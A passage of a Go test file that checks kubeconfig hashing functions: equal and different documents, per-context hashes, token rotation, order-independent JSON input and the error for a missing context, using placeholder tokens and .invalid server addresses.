	b := []byte(doc("", "token: another"))
	if kubeconfig.Hash(a) != kubeconfig.Hash(append([]byte(nil), a...)) {
		t.Error("equal documents hash differently")
	}
	if kubeconfig.Hash(a) == kubeconfig.Hash(b) {
		t.Error("documents with different tokens hash equally")
	}
	if h := kubeconfig.Hash(a); len(h) != 64 || strings.Contains(h, secretToken) {
		t.Errorf("Hash is not a hex SHA-256: %q", h)
	}
}

func TestContextHash(t *testing.T) {
	base := `apiVersion: v1
kind: Config
current-context: one
contexts:
- {name: one, context: {cluster: k1, user: u1}}
- {name: two, context: {cluster: k2, user: u2}}
clusters:
- {name: k1, cluster: {server: "https://one.invalid"}}
- {name: k2, cluster: {server: "https://two.invalid"}}
users:
- {name: u1, user: {token: TOKEN1}}
- {name: u2, user: {token: TOKEN2}}
`
	hash := func(data, ctx string) string {
		t.Helper()
		h, err := kubeconfig.ContextHash([]byte(data), ctx)
		if err != nil {
			t.Fatalf("ContextHash(%s): %v", ctx, err)
		}
		return h
	}
	one, two := hash(base, "one"), hash(base, "two")
	if one == two {
		t.Fatal("different contexts hash equally")
	}
	if hash(base, "") != one {
		t.Error("empty context name does not select the current context")
	}

	rotatedTwo := strings.Replace(base, "TOKEN2", "TOKEN2-rotated", 1)
	if hash(rotatedTwo, "one") != one {
		t.Error("changing context two changed the hash of context one")
	}
	if hash(rotatedTwo, "two") == two {
		t.Error("rotating the token of context two did not change its hash")
	}

	// The same content, written as JSON with entries in another order.
	asJSON := `{"kind":"Config","apiVersion":"v1","current-context":"two",
"users":[{"name":"u2","user":{"token":"TOKEN2"}},{"name":"u1","user":{"token":"TOKEN1"}}],
"clusters":[{"name":"k1","cluster":{"server":"https://one.invalid"}}],
"contexts":[{"name":"one","context":{"user":"u1","cluster":"k1"}}]}`
	if hash(asJSON, "one") != one {
		t.Error("reformatting changed the context hash")
	}
	if _, err := kubeconfig.ContextHash([]byte(base), "three"); !errors.Is(err, kubeconfig.ErrInvalid) {
		t.Errorf("ContextHash(missing) = %v, want ErrInvalid", err)
	}
}
